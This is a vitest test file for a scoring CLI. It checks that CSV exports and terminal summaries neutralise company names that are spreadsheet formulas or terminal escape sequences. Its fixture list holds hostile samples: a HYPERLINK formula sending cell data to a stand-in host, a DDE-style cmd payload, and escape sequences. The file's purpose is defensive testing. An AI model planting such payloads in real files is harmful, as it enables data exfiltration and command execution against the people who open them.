// R14: output that cannot attack its reader. Company names that are spreadsheet formulas or
// terminal escape sequences, scored with `kam score`.
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { runScore } from '../../src/cli/score-command.ts';
import { terminalText } from '../../src/cli/terminal-text.ts';
import { neutraliseCsvText } from '../../src/portfolio-files/csv-cell.ts';
import { toHubSpotExport } from '../../src/portfolio-files/to-hubspot-export.ts';
import { fakeIo } from './fake-io.ts';

const won = (id: string, amount: number) => ({ id, properties: { amount: String(amount), closedate: '2026-06-01T16:00:00Z', hs_is_closed_won: 'true', hs_is_closed: 'true' } });
const HOSTILE_NAMES = [
  '=HYPERLINK("https://evil.example/?"&A1,"Click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\tTabbed', '\rReturned',
  'Red \u001b[31mAlert\u001b[0m', 'Title \u001b]0;pwned\u0007here', 'Bell\u0007 and \u009b2J clear',
];
const PORTFOLIO = JSON.stringify({
  asOf: '2026-11-22',
  companies: HOSTILE_NAMES.map((name, i) => ({
    // A thin margin on a dedicated team gives negative profits: numbers that begin with '-'.
    id: String(i + 1), properties: { name, kam_coverage: 'dedicated', annualrevenue: '900000' }, deals: [won(`${i + 1}1`, 20_000 + i)],
  })),
});

// What a spreadsheet runs: a text cell starting with = + - @ tab or CR that is not a plain number.
const runnable = (cell: string): boolean => /^[=+\-@\t\r]/.test(cell) && Number.isNaN(Number(cell));

describe('output that cannot attack its reader (R14)', () => {
  it('when a portfolio with formula names is scored with --format csv, then no cell would run, names keep their text and negative numbers stay numbers', async () => {
    const run = fakeIo({ 'p.json': PORTFOLIO });
    expect(await runScore({ file: 'p.json', format: 'csv', out: 'out.csv' }, run.io)).toBe(0);
    const rows = parse(run.written['out.csv'] ?? '', { columns: true }) as Record<string, string>[];
    expect(rows).toHaveLength(HOSTILE_NAMES.length);
    expect(rows.flatMap((r) => Object.values(r)).filter(runnable)).toEqual([]);
    // The reader trims names (so the tab and CR ones arrive without them); the rest keep their text behind the apostrophe.
    expect(rows.map((r) => r.name).sort()).toEqual(HOSTILE_NAMES.map((n) => n.trim()).map((n) => (/^[=+\-@]/.test(n) ? `'${n}` : n)).sort());
    const profits = rows.map((r) => r.expectedProfit ?? '');
    expect(profits.some((p) => p.startsWith('-'))).toBe(true);
    expect(profits.every((p) => Number.isFinite(Number(p)))).toBe(true);
  });

  it('when the same portfolio is summarised on the terminal, then no escape sequence or control character reaches it', async () => {
    const run = fakeIo({ 'p.json': PORTFOLIO });
    expect(await runScore({ file: 'p.json', format: 'summary' }, run.io)).toBe(0);
    // eslint-disable-next-line no-control-regex
    expect(run.stdout()).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
  });

  it('when text is cleaned for the terminal, then whole escape sequences go and the readable text stays', () => {
    expect(terminalText('Red \u001b[31mAlert\u001b[0m')).toBe('Red Alert');
    expect(terminalText('Title \u001b]0;pwned\u0007here')).toBe('Title here');
    expect(terminalText('a\tb\nc')).toBe('a b c');
  });

  it('when a cell is a number written as text, then it is left as it is; a formula gets its apostrophe', () => {
    expect(['-12.5', '+3', '-1e5', '42'].map(neutraliseCsvText)).toEqual(['-12.5', '+3', '-1e5', '42']);
    expect(['=1+1', '-1+1', '@x', '+x'].map(neutraliseCsvText)).toEqual(["'=1+1", "'-1+1", "'@x", "'+x"]);
  });

  it('when the portfolio is exported as HubSpot CSV files, then no cell of either would run', () => {
    const { companiesCsv, dealsCsv } = toHubSpotExport(JSON.parse(PORTFOLIO).companies);
    for (const csv of [companiesCsv, dealsCsv]) {
      expect((parse(csv) as string[][]).flat().filter(runnable)).toEqual([]);
    }
  });
});
